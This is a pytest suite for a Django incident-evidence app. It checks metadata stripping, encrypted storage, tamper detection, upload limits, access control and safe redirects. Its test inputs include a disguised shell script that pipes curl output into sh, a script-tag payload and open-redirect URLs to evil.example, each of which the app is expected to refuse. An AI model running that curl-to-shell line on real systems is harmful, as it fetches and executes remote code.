"""Evidence files: upload checks, metadata stripping, sealing, download, access."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from vigil.audit.models import AuditEvent
from vigil.conftest import World, sign_in
from vigil.incidents import actions, evidence
from vigil.incidents.models import Event, Evidence
from vigil.vault import crypto, sealing
from vigil.vault.seizure import encodings, seized

GPS_IFD = 0x8825
EXIF_IFD = 0x8769
ORIENTATION = 0x0112
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    root = tmp_path / "media"
    settings.MEDIA_ROOT = str(root)
    return root


def stored_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def jpeg_with_gps(size: tuple[int, int] = (40, 20), orientation: int = 1) -> bytes:
    image = Image.new("RGB", size, "red")
    image.paste((0, 0, 255), (0, 0, size[0] // 2, size[1]))  # left half blue
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(EXIF_IFD)[0x9003] = "2024:03:05 22:10:00"
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (50.0, 27.0, 0.0)
    gps[3] = "E"
    gps[4] = (30.0, 31.0, 0.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"shot at Lesi Ukrainky 12")
    data = out.getvalue()
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS_IFD)  # the test input is real
    return data


def new_event(persona: Any) -> Event:
    return actions.start_event(persona.user, persona.organisation).event


def upload(client: Client, event: Event, data: bytes, name: str, **fields: Any) -> Any:
    payload = {"kind": "photo", "description": "", **fields}
    payload["file"] = SimpleUploadedFile(name, data, content_type="image/jpeg")
    return client.post(f"/incidents/{event.pk}/evidence/new/", payload)


def download(client: Client, event: Event, item: Evidence) -> Any:
    return client.get(f"/incidents/{event.pk}/evidence/{item.pk}/")


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def caseworker(world: World, signed_in: Any) -> Client:
    return signed_in("caseworker")


@pytest.fixture
def event(world: World) -> Event:
    return new_event(world["caseworker"])


def test_it_strips_gps_and_exif_from_a_photo_and_hashes_what_it_stores(
    caseworker: Client, event: Event
) -> None:
    original = jpeg_with_gps(size=(40, 20), orientation=6)
    response = upload(caseworker, event, original, "IMG_0001.jpg", description="bruises")
    assert response.status_code == 302
    item = Evidence.objects.get(event=event)
    assert not item.metadata_kept
    assert item.content_type == "image/jpeg"
    assert str(item.captured_on) == "2024-03-05"  # the camera's day, kept as a clear date

    got = download(caseworker, event, item)
    data = body(got)
    assert hashlib.sha256(data).hexdigest() == item.sha256
    assert item.size == len(data)
    image = Image.open(io.BytesIO(data))
    assert not image.getexif()
    assert "exif" not in image.info and "comment" not in image.info
    assert b"Exif" not in data and b"PhoneMaker" not in data and b"Lesi" not in data
    # Orientation 6 was applied to the pixels: 40x20 turned upright is 20x40.
    assert image.size == (20, 40)
    assert AuditEvent.objects.filter(action="evidence.add", target_id=str(item.pk)).exists()
    assert AuditEvent.objects.filter(action="evidence.download", target_id=str(item.pk)).exists()


def test_it_keeps_the_metadata_exactly_when_the_caseworker_says_why(
    caseworker: Client, event: Event
) -> None:
    original = jpeg_with_gps()
    response = upload(
        caseworker,
        event,
        original,
        "scene.jpg",
        keep_metadata="on",
        metadata_reason="GPS proves she was at the station",
    )
    assert response.status_code == 302
    item = Evidence.objects.get(event=event)
    assert item.metadata_kept
    data = body(download(caseworker, event, item))
    assert data == original
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS_IFD)[1] == "N"
    listing = caseworker.get(f"/incidents/{event.pk}/evidence/").content.decode()
    assert "GPS proves she was at the station" in listing
    assert "scene.jpg" in listing


def test_it_asks_for_a_reason_and_keeps_the_other_fields(
    caseworker: Client, event: Event, media: Path
) -> None:
    response = upload(
        caseworker,
        event,
        jpeg_with_gps(),
        "scene.jpg",
        keep_metadata="on",
        description="Photo by the outreach worker",
    )
    assert response.status_code == 200
    assert "Say why the location and camera data must be kept" in response.content.decode()
    assert "Photo by the outreach worker" in response.content.decode()
    assert not Evidence.objects.exists()
    assert stored_files(media) == []


@pytest.mark.parametrize(
    ("fmt", "options"),
    [("PNG", {}), ("WEBP", {"lossless": True}), ("WEBP", {"quality": 90})],
)
def test_it_strips_metadata_from_png_and_webp_too(
    caseworker: Client, event: Event, fmt: str, options: dict[str, Any]
) -> None:
    image = Image.new("RGB", (16, 8), "green")
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(GPS_IFD)[1] = "N"
    exif.get_ifd(GPS_IFD)[2] = (50.0, 27.0, 0.0)
    text = PngInfo()
    text.add_text("Comment", "Kyiv Lesi 12")
    xmp = b"<x:xmpmeta>Kyiv Lesi 12</x:xmpmeta>"
    extra = {"pnginfo": text} if fmt == "PNG" else {"xmp": xmp}
    out = io.BytesIO()
    image.save(out, fmt, exif=exif, **extra, **options)
    assert Image.open(io.BytesIO(out.getvalue())).getexif().get_ifd(GPS_IFD)
    assert b"Lesi" in out.getvalue()
    response = upload(caseworker, event, out.getvalue(), f"a.{fmt.lower()}")
    assert response.status_code == 302
    item = Evidence.objects.get(event=event)
    data = body(download(caseworker, event, item))
    cleaned = Image.open(io.BytesIO(data))
    assert cleaned.format == fmt and cleaned.size == (16, 8)
    assert not cleaned.getexif() and b"Lesi" not in data and b"PhoneMaker" not in data
    assert item.content_type == f"image/{fmt.lower()}"


def test_it_round_trips_a_pdf_byte_for_byte_with_its_name(
    caseworker: Client, event: Event, media: Path
) -> None:
    document = PDF + bytes(range(256)) * 700  # several encrypted chunks
    response = upload(
        caseworker, event, document, "Довідка лікаря.pdf", kind="medical", captured_on="2024-02-01"
    )
    assert response.status_code == 302
    item = Evidence.objects.get(event=event)
    assert (item.kind, item.content_type, str(item.captured_on)) == (
        "medical",
        "application/pdf",
        "2024-02-01",
    )
    assert item.sha256 == hashlib.sha256(document).hexdigest()
    got = download(caseworker, event, item)
    assert got.status_code == 200
    assert body(got) == document
    assert got["Content-Type"] == "application/pdf"
    assert got["Content-Length"] == str(len(document))
    assert got["X-Content-Type-Options"] == "nosniff"
    assert got["Content-Disposition"].startswith("attachment; ")
    assert (
        "filename*=UTF-8''%D0%94%D0%BE%D0%B2%D1%96%D0%B4%D0%BA%D0%B0" in got["Content-Disposition"]
    )
    assert "no-store" in got["Cache-Control"]
    # The stored file is ciphertext, not the document.
    [path] = stored_files(media)
    assert document[:200] not in path.read_bytes()


def test_it_refuses_an_oversize_file_and_stores_nothing(
    caseworker: Client, event: Event, media: Path, settings: Any
) -> None:
    settings.EVIDENCE_MAX_BYTES = 4 * 1024
    before = (event.updated_at, event.wizard_step, bytes(event.sealed or b""))
    response = upload(
        caseworker, event, PDF + b"x" * 5000, "big.pdf", kind="document", description="keep me"
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "This file is larger than the limit of 4.0" in page
    assert 'id="id_file-error"' in page  # beside the field
    assert "keep me" in page
    assert not Evidence.objects.exists()
    assert stored_files(media) == []
    event.refresh_from_db()
    assert (event.updated_at, event.wizard_step, bytes(event.sealed or b"")) == before
    assert not AuditEvent.objects.filter(action="evidence.add").exists()
    # Just under the limit is fine.
    response = upload(caseworker, event, PDF + b"x" * (4096 - len(PDF)), "ok.pdf", kind="document")
    assert response.status_code == 302
    assert Evidence.objects.get().size == 4096


def test_it_asks_for_a_file_when_none_was_chosen(caseworker: Client, event: Event) -> None:
    response = caseworker.post(
        f"/incidents/{event.pk}/evidence/new/", {"kind": "photo", "description": "no file"}
    )
    assert response.status_code == 200
    assert "Choose a file." in response.content.decode()
    assert "no file" in response.content.decode()


def test_it_stops_reading_a_huge_body_and_still_answers_with_the_form(
    caseworker: Client, event: Event, media: Path, settings: Any
) -> None:
    settings.EVIDENCE_MAX_BYTES = 4 * 1024
    response = upload(caseworker, event, PDF + b"x" * 200_000, "huge.pdf", description="still here")
    assert response.status_code == 200
    assert "This file is larger than the limit" in response.content.decode()
    assert "still here" in response.content.decode()
    assert stored_files(media) == []


def test_it_refuses_past_the_limit_while_streaming_whatever_was_declared(
    settings: Any, rf: Any
) -> None:
    # The handler itself refuses past the limit whatever Content-Length said.
    handler = evidence.SpoolUploadHandler(rf.post("/"), limit=10)
    handler.handle_raw_input(io.BytesIO(), {}, 5, "x")
    handler.new_file("file", "a.pdf", "application/pdf", 5)
    handler.receive_data_chunk(b"%PDF-", 0)
    handler.receive_data_chunk(b"123456", 5)
    assert handler.too_large
    assert handler.file_complete(11) is None


def test_it_spools_an_upload_to_disk_only_encrypted() -> None:
    spool = evidence.EncryptedSpool()
    secret = PLANTED.encode() * 100
    spool.write(secret)
    spool.write(b"tail")
    spool._file.seek(0)
    on_disk = spool._file.read()
    assert secret[:40] not in on_disk and len(on_disk) > len(secret)
    assert spool.read_all() == secret + b"tail"
    assert spool.head.startswith(secret[:100])
    spool.close()


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 500, "a Windows program"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 500, "a Linux program"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "a script"),
        (b"<html><script>alert(1)</script></html>", "a web page or script"),
        (b"GIF89a" + b"\x00" * 100, "of a type Vigil does not accept"),
    ],
)
def test_it_refuses_a_disguised_file_whatever_its_name_says(
    caseworker: Client, event: Event, media: Path, content: bytes, what: str
) -> None:
    response = upload(caseworker, event, content, "photo.jpg")
    assert response.status_code == 200
    page = response.content.decode()
    assert "is named like a JPEG photo, but its content is not" in page
    assert what in page
    assert not Evidence.objects.exists()
    assert stored_files(media) == []


def test_it_accepts_audio_and_video_by_their_content_not_their_name(
    caseworker: Client, event: Event
) -> None:
    samples = {
        "audio/amr": b"#!AMR\n" + b"\x3c" * 300,
        "audio/ogg": b"OggS\x00\x02" + b"\x00" * 22 + b"OpusHead" + b"\x00" * 300,
        "audio/wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 300,
        "audio/mpeg": b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\x00" * 300,
        "video/mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 300,
        "video/quicktime": b"\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  " + b"\x00" * 300,
        "video/webm": bytes.fromhex("1a45dfa3")
        + b"\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm"
        + b"\x00" * 300,
    }
    for expected, content in samples.items():
        response = upload(caseworker, event, content, "recording.bin", kind="audio")
        assert response.status_code == 302, expected
        item = Evidence.objects.filter(event=event).latest("pk")
        assert item.content_type == expected
        assert body(download(caseworker, event, item)) == content


def test_it_refuses_a_heic_photo_unless_its_metadata_is_kept(
    caseworker: Client, event: Event
) -> None:
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 300
    response = upload(caseworker, event, heic, "IMG_1.HEIC")
    assert "Location data cannot be removed from HEIC photos" in response.content.decode()
    assert not Evidence.objects.exists()
    response = upload(
        caseworker, event, heic, "IMG_1.HEIC", keep_metadata="on", metadata_reason="court asks"
    )
    assert response.status_code == 302
    item = Evidence.objects.get(event=event)
    assert (item.content_type, item.metadata_kept) == ("image/heic", True)


def test_it_refuses_an_image_too_large_to_clean(
    caseworker: Client, event: Event, media: Path, monkeypatch: Any
) -> None:
    monkeypatch.setattr(evidence, "MAX_PIXELS", 100)
    response = upload(caseworker, event, jpeg_with_gps(), "a.jpg")
    assert "too large to remove its location data safely" in response.content.decode()
    assert stored_files(media) == []


def test_it_detects_a_cut_or_altered_file_and_serves_nothing(
    world: World, caseworker: Client, event: Event
) -> None:
    document = PDF + b"secret page " * 20_000
    for name in ("a.pdf", "b.pdf"):
        upload(caseworker, event, document + name.encode(), name, kind="document")
    first, second = Evidence.objects.filter(event=event).order_by("pk")
    path = Path(sealing.default_storage.path(first.stored_name))
    intact = path.read_bytes()
    key = sealing.open_data_key(
        _vault_for(world), event.organisation_id, bytes(event.sealed_key or b"")
    )

    path.write_bytes(intact[: len(intact) - 100])  # cut short
    with pytest.raises(crypto.CryptoError):
        b"".join(sealing.open_file(key, first.stored_name))
    got = download(caseworker, event, first)
    assert got.status_code == 410
    assert b"secret page" not in got.content
    assert "Evidence file damaged" in got.content.decode()

    altered = bytearray(intact)
    altered[len(altered) // 2] ^= 1
    path.write_bytes(bytes(altered))
    assert download(caseworker, event, first).status_code == 410

    # A whole file swapped for another one sealed under the same key decrypts fine,
    # but its fingerprint gives it away.
    path.write_bytes(Path(sealing.default_storage.path(second.stored_name)).read_bytes())
    assert download(caseworker, event, first).status_code == 410
    assert AuditEvent.objects.filter(action="evidence.damaged").count() == 3

    path.write_bytes(intact)
    assert body(download(caseworker, event, first)) == document + b"a.pdf"


class _Vault:
    def __init__(self, private: bytes) -> None:
        self.private = private

    def org_key(self, organisation_id: int) -> bytes:
        return self.private


def _vault_for(world: World) -> Any:
    from vigil.vault import keys

    return _Vault(keys.organisation_private_from_phrase(world.org, world.phrase))


def test_it_returns_to_a_safe_next_address_only(caseworker: Client, event: Event) -> None:
    back = f"/incidents/{event.pk}/wizard/evidence/"
    url = f"/incidents/{event.pk}/evidence/new/?next={back}"
    form = caseworker.get(url)
    assert back in form.content.decode()  # the cancel link
    response = caseworker.post(url, {"kind": "document", "file": SimpleUploadedFile("a.pdf", PDF)})
    assert response.status_code == 302 and response["Location"] == back
    for bad in ("https://evil.example/x", "//evil.example/x", "/\\evil.example"):
        response = caseworker.post(
            f"/incidents/{event.pk}/evidence/new/?next={bad}",
            {"kind": "document", "file": SimpleUploadedFile("a.pdf", PDF)},
        )
        assert response["Location"] == f"/incidents/{event.pk}/evidence/", bad


def test_it_still_checks_the_csrf_token(world: World, event: Event) -> None:
    client = Client()
    sign_in(client, world["caseworker"])
    client.handler.enforce_csrf_checks = True
    response = client.post(
        f"/incidents/{event.pk}/evidence/new/",
        {"kind": "document", "file": SimpleUploadedFile("a.pdf", PDF)},
    )
    assert response.status_code == 403
    assert not Evidence.objects.exists()
    client.get(f"/incidents/{event.pk}/evidence/new/")
    token = client.cookies["csrftoken"].value
    response = client.post(
        f"/incidents/{event.pk}/evidence/new/",
        {
            "csrfmiddlewaretoken": token,
            "kind": "document",
            "file": SimpleUploadedFile("a.pdf", PDF),
        },
    )
    assert response.status_code == 302
    assert Evidence.objects.count() == 1


def test_it_lists_evidence_in_a_constant_number_of_queries(
    caseworker: Client, event: Event, django_assert_max_num_queries: Any
) -> None:
    upload(caseworker, event, PDF, "one.pdf", kind="document")
    with django_assert_max_num_queries(12) as few:
        caseworker.get(f"/incidents/{event.pk}/evidence/")
    one_row = len(few)
    assert one_row > 3
    for n in range(5):
        upload(caseworker, event, PDF, f"more-{n}.pdf", kind="document")
    with django_assert_max_num_queries(one_row):
        response = caseworker.get(f"/incidents/{event.pk}/evidence/")
    assert response.content.decode().count("more-") == 5


# --- who may ------------------------------------------------------------------------


def test_it_lets_only_the_incident_team_upload(world: World, signed_in: Any) -> None:
    event = new_event(world["caseworker"])
    url = f"/incidents/{event.pk}/evidence/new/"
    pdf = {"kind": "document", "file": SimpleUploadedFile("a.pdf", PDF)}
    analyst = signed_in("analyst")
    assert analyst.get(url).status_code == 403
    assert analyst.post(url, dict(pdf)).status_code == 403
    assert signed_in("coordinator", other=True).get(url).status_code == 404
    hotline = signed_in("hotline")
    assert hotline.get(url).status_code == 404  # an incident she did not enter
    assert hotline.post(url, {**pdf, "file": SimpleUploadedFile("a.pdf", PDF)}).status_code == 404
    own = new_event(world["hotline"])
    response = hotline.post(
        f"/incidents/{own.pk}/evidence/new/",
        {"kind": "document", "file": SimpleUploadedFile("a.pdf", PDF)},
    )
    assert response.status_code == 302
    assert Evidence.objects.filter(event=own).count() == 1
    assert not Evidence.objects.filter(event=event).exists()
    assert Client().get(url).status_code == 302  # to sign-in


def test_it_serves_a_file_only_to_who_may_see_the_incident(
    world: World, signed_in: Any, caseworker: Client, event: Event
) -> None:
    upload(caseworker, event, PDF, "a.pdf", kind="document")
    item = Evidence.objects.get(event=event)
    url = f"/incidents/{event.pk}/evidence/{item.pk}/"
    assert signed_in("lawyer").get(url).status_code == 200
    assert signed_in("analyst").get(url).status_code == 403
    assert signed_in("police_liaison").get(url).status_code == 403
    assert signed_in("hotline").get(url).status_code == 404
    assert signed_in("coordinator", other=True).get(url).status_code == 404
    assert (
        signed_in("coordinator", other=True).get(f"/incidents/{event.pk}/evidence/").status_code
        == 404
    )
    # The evidence must belong to the incident in the address.
    other_event = new_event(world["caseworker"])
    assert caseworker.get(f"/incidents/{other_event.pk}/evidence/{item.pk}/").status_code == 404
    assert AuditEvent.objects.filter(action="evidence.download").count() == 1


# --- seizure ----------------------------------------------------------------------------

PLANTED = "Ганна Мельник, протокол 771-МВС"


@pytest.mark.django_db(transaction=True)
def test_it_leaves_no_planted_text_in_a_seized_database_or_media_folder(
    transactional_db: None, world: World, media: Path
) -> None:
    client = Client()
    sign_in(client, world["caseworker"])
    event = new_event(world["caseworker"])
    document = PDF + (PLANTED + "\n").encode() * 200
    response = client.post(
        f"/incidents/{event.pk}/evidence/new/",
        {
            "kind": "document",
            "description": PLANTED,
            "file": SimpleUploadedFile(f"{PLANTED}.pdf", document),
        },
    )
    assert response.status_code == 302
    item = Evidence.objects.get(event=event)
    dump = seized()
    assert item.sha256.encode() in dump  # the dump is real: clear fields are in it
    assert stored_files(media)
    for form in encodings(PLANTED):
        assert form not in dump
    assert body(client.get(f"/incidents/{event.pk}/evidence/{item.pk}/")) == document
